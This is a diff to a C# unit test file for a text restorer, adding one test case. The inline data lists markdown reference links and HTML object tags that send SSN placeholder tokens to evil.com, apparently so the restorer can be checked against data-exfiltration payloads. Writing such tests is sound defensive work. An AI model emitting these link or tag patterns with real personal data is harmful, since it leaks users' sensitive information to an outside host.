@@ -111,6 +111,7 @@ public sealed class TextRestorerTests
     [InlineData("[a]:<https://evil.com/?d= <SSN_1> <SSN_12>>")]
     [InlineData("[a]:\n  <evil?d= <SSN_1>>")]
     [InlineData("[a]: /relative?<SSN_1>")]
+    [InlineData("> [a]:\n> <https://evil.com/?d= <SSN_1>>")]
     [InlineData("<object data=\"https://evil.com/?d= <SSN_1>\">")]
     [InlineData("<object data = 'https://evil.com/?d= <SSN_1>'>")]
     [InlineData("<object data=\" //evil.com/?d= \n\n <SSN_1>\">")]
